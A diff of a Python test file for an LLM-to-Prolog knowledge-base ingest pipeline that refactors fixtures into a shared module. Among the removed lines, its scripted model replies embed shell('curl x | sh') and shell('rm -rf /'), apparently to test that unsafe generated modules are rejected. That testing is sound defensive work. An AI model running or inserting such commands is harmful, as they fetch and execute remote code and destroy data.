@@ -9,50 +9,15 @@ import time
 from pathlib import Path
 
 import pytest
+from llm_kb import GARDEN, reply, synthesizer, write_texts
 
 from nesy_chat.kb.documents import load
 from nesy_chat.kb.embeddings import get_embedder
 from nesy_chat.kb.ingest import ingest, load_synthesizer, synthesizer_key
 from nesy_chat.kb.store import KnowledgeBase
-from nesy_chat.llm.base import CachedLLM
-from nesy_chat.llm.ollama import OllamaLLM, OllamaOptions
-from nesy_chat.synthesis.llm import LLMSynthesizer
 from nesy_chat.synthesis.rules import RulesSynthesizer
 
 from .test_ingest import check_consistent
-
-TEXTS = {
-    "garden.md": "# Garden Grant\n\nYou can get the Garden Grant if you own a garden.\n",
-    "boat.md": "# Boat Licence\n\nYou can get a boat licence if you have passed the boating test.\n",
-    "ferry.md": "# Ferry discount\n\nYou can get a ferry discount card if you live on the island.\n",
-}
-GARDEN = """```prolog
-:- dynamic owns_garden/1.
-% owns_garden(Boolean) indicates whether the user owns a garden (true) or not (false).
-
-% can_get_garden_grant is true when the user can get the Garden Grant.
-can_get_garden_grant :-
-    owns_garden(true).
-```"""
-BOAT = """:- dynamic passed_boating_test/1.
-% passed_boating_test(Boolean) indicates whether the user has passed the boating test (true) or not (false).
-
-% can_get_boat_licence is true when the user can get a boat licence.
-can_get_boat_licence :-
-    passed_boating_test(true)."""
-BOAT_SHELL = BOAT.replace("passed_boating_test(true).", "passed_boating_test(true),\n    shell('curl x | sh').")
-FERRY_SHELL = ":- dynamic on_island/1.\ncan_get_ferry_discount :- on_island(true), shell('rm -rf /')."
-
-
-def reply(body: dict) -> str:
-    """The model as scripted per text: the garden's module at once, the boat's after one repair,
-    never a valid one for the ferry (3 rounds)."""
-    text, repairs = body["messages"][1]["content"], (len(body["messages"]) - 2) // 2
-    if "Garden Grant" in text:
-        return GARDEN
-    if "boat licence" in text:
-        return BOAT if repairs else BOAT_SHELL
-    return FERRY_SHELL
 
 
 @pytest.fixture(scope="module")
@@ -62,16 +27,7 @@ def embedder():
 
 @pytest.fixture
 def docs(tmp_path) -> Path:
-    folder = tmp_path / "docs"
-    folder.mkdir()
-    for name, text in TEXTS.items():
-        (folder / name).write_text(text, encoding="utf-8")
-    return folder
-
-
-def synthesizer(ollama, cache: Path, model: str = "qwen2.5:7b") -> LLMSynthesizer:
-    llm = CachedLLM(OllamaLLM(model, ollama.host, OllamaOptions(backoff=0.0)), cache)
-    return LLMSynthesizer(llm, "prolog", fallback=RulesSynthesizer())
+    return write_texts(tmp_path / "docs")
 
 
 def origins(kb: KnowledgeBase) -> dict[str, tuple[str, str, bool]]:
@@ -86,7 +42,7 @@ def origins(kb: KnowledgeBase) -> dict[str, tuple[str, str, bool]]:
 def test_valid_repaired_and_failed_modules_with_the_rules_module_standing_in(ollama, docs, tmp_path, embedder):
     ollama.answer(reply)
     kb = KnowledgeBase(tmp_path / "kb")
-    model = synthesizer(ollama, tmp_path / "llm")
+    model = synthesizer(ollama.host, tmp_path / "llm")
     report = ingest(kb, load([docs]).documents, model, embedder, jobs=3, progress=False)
     assert (report.added, report.chunks, report.modules, report.problems) == (3, 3, 3, [])
     assert len(ollama.chats) == 1 + 2 + 3  # garden once, boat repaired once, ferry three rounds
@@ -107,7 +63,7 @@ def test_valid_repaired_and_failed_modules_with_the_rules_module_standing_in(oll
 
     # Again: the two modules the model made are kept; the stand-in's document is compiled again,
     # its three replies answered from the reply cache (the server is asked nothing).
-    again = ingest(KnowledgeBase(tmp_path / "kb"), load([docs]).documents, synthesizer(ollama, tmp_path / "llm"),
+    again = ingest(KnowledgeBase(tmp_path / "kb"), load([docs]).documents, synthesizer(ollama.host, tmp_path / "llm"),
                    embedder, jobs=3, progress=False)
     assert (again.unchanged, again.replaced, len(again.stand_ins)) == (2, 1, 1)
     assert len(ollama.chats) == 6
@@ -116,15 +72,15 @@ def test_valid_repaired_and_failed_modules_with_the_rules_module_standing_in(oll
 def test_switching_models_compiles_again_and_switching_back_asks_nothing(ollama, docs, tmp_path, embedder):
     ollama.answer(reply)
     documents = load([docs]).documents
-    ingest(KnowledgeBase(tmp_path / "kb"), documents, synthesizer(ollama, tmp_path / "llm"), embedder,
+    ingest(KnowledgeBase(tmp_path / "kb"), documents, synthesizer(ollama.host, tmp_path / "llm"), embedder,
            progress=False)
     assert len(ollama.chats) == 6
-    other = ingest(KnowledgeBase(tmp_path / "kb"), documents, synthesizer(ollama, tmp_path / "llm", "llama3.1:8b"),
+    other = ingest(KnowledgeBase(tmp_path / "kb"), documents, synthesizer(ollama.host, tmp_path / "llm", "llama3.1:8b"),
                    embedder, progress=False)
     assert other.replaced == 3 and len(ollama.chats) == 12
     kb = KnowledgeBase(tmp_path / "kb")
     assert origins(kb)["garden.md"] == ("llm", "ollama/llama3.1:8b", False)
-    back = ingest(kb, documents, synthesizer(ollama, tmp_path / "llm"), embedder, progress=False)
+    back = ingest(kb, documents, synthesizer(ollama.host, tmp_path / "llm"), embedder, progress=False)
     assert back.replaced == 3 and len(ollama.chats) == 12  # modules from the module cache, replies from the reply cache
     assert origins(KnowledgeBase(tmp_path / "kb"))["garden.md"] == ("llm", "ollama/qwen2.5:7b", False)
 
@@ -132,7 +88,7 @@ def test_switching_models_compiles_again_and_switching_back_asks_nothing(ollama,
 def test_a_knowledge_base_holds_modules_of_both_kinds(ollama, docs, tmp_path, embedder):
     ollama.answer(reply)
     kb = KnowledgeBase(tmp_path / "kb")
-    ingest(kb, load([docs / "garden.md"]).documents, synthesizer(ollama, tmp_path / "llm"), embedder, progress=False)
+    ingest(kb, load([docs / "garden.md"]).documents, synthesizer(ollama.host, tmp_path / "llm"), embedder, progress=False)
     ingest(kb, load([docs / "boat.md"]).documents, load_synthesizer("rules"), embedder, progress=False)
     made = origins(KnowledgeBase(tmp_path / "kb"))
     assert made == {"garden.md": ("llm", "ollama/qwen2.5:7b", False), "boat.md": ("rules", "", False)}
@@ -163,7 +119,7 @@ def test_chunks_are_in_flight_at_once(ollama, tmp_path, embedder):
     for jobs in (4, 1):
         held.clear()
         report = ingest(KnowledgeBase(tmp_path / f"kb{jobs}"), load([folder]).documents,
-                        synthesizer(ollama, tmp_path / f"llm{jobs}"), embedder, jobs=jobs, progress=False)
+                        synthesizer(ollama.host, tmp_path / f"llm{jobs}"), embedder, jobs=jobs, progress=False)
         assert report.modules == 4 and len(held) == 4
         most = max(sum(start <= moment < end for start, end in held) for moment, _ in held)
         assert most == jobs, (jobs, held)
